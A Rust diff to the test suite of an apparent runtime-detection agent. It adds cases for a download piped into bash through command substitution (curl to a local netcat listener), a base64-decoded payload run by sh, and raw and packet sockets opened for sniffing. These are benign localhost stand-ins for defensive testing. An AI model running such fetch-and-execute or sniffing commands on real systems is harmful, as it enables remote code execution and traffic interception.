@@ -141,6 +141,7 @@ fn programs_for(kind: &str) -> &'static [&'static str] {
         "kernel_module" => &["rasp_kernel_module"],
         "bpf_load" => &["rasp_bpf"],
         "io_uring" => &["rasp_io_uring"],
+        "socket" => &["rasp_socket"],
         other => panic!("no program for {other}"),
     }
 }
@@ -1057,6 +1058,24 @@ fn hook_cases(fx: &mut Fixtures, home: &Path) -> Vec<Case> {
         b"echo ZXhpdCAw | base64 -d | sh\n",
         0o644,
     );
+    // Substitutions typed in a script: no command line shows the download or the decoder
+    // feeding the shell, only the processes do.
+    let subst_port = free_loopback_port();
+    let subst = fx.scratch.file(
+        fx.var.join("subst.sh"),
+        format!(
+            "nc -l -p {subst_port} < {} > /dev/null &\nsleep 0.5\n\
+             bash -c \"$(curl -s -m 5 http://127.0.0.1:{subst_port}/i.sh)\"\nwait\n",
+            s(&response)
+        )
+        .as_bytes(),
+        0o644,
+    );
+    let subst_decode = fx.scratch.file(
+        fx.var.join("subst-decode.sh"),
+        b"sh -c \"$(echo ZXhpdCAw | base64 -d)\"\n",
+        0o644,
+    );
     let mountpoint = fx.scratch.dir(fx.tmp.join("mnt"));
     let image = fx.var.join("disk.img");
     fx.scratch.adopt(&image);
@@ -1077,6 +1096,37 @@ fn hook_cases(fx: &mut Fixtures, home: &Path) -> Vec<Case> {
         Case::new("shell-reads-decoded-payload", format!("sh {}", s(&decode)))
             .descendant()
             .exe("/bin/sh"),
+        Case::new(
+            "shell-runs-substituted-download",
+            format!("sh {}", s(&subst)),
+        )
+        .descendant()
+        .exe("/bin/bash")
+        .needs("/usr/bin/curl", "curl")
+        .needs("/usr/bin/nc", "netcat-traditional"),
+        Case::new(
+            "shell-runs-substituted-decoded-payload",
+            format!("sh {}", s(&subst_decode)),
+        )
+        .descendant()
+        .exe("/bin/sh"),
+        // Sniffing: the sockets themselves, from a script (the tool does not matter).
+        Case::new(
+            "packet-socket-opened",
+            format!(
+                "{PYTHON} -c 'import socket; \
+                 socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3)).close()'"
+            ),
+        )
+        .exe(PYTHON),
+        Case::new(
+            "raw-ip-socket-opened",
+            format!(
+                "{PYTHON} -c 'import socket; \
+                 socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_TCP).close()'"
+            ),
+        )
+        .exe(PYTHON),
         Case::new(
             "setuid-bit-set-by-program",
             format!(
@@ -1661,13 +1711,15 @@ fn kernel_module_rules_fire_on_real_module_tools() {
 }
 
 /// The scenarios of the issue-19 hooks that have no policy test of their own share one
-/// agent (each agent start costs seconds of program loading): io_uring submissions, a
-/// module loaded by a program, and the long-path and private-namespace evasions.
+/// agent (each agent start costs seconds of program loading): io_uring submissions, packet
+/// and raw sockets, a module loaded by a program, and the long-path and private-namespace
+/// evasions.
 #[test]
 fn io_uring_modules_and_evasions_on_one_agent() {
     require_root();
     let agent = Agent::start(&[]);
     technique_policy_on(&agent, "io-uring");
+    technique_policy_on(&agent, "network-sniffing");
     kernel_modules_loaded_by_a_program_are_seen_where_modules_can_load(&agent);
     long_paths_and_private_namespaces_do_not_hide_techniques(&agent);
 }
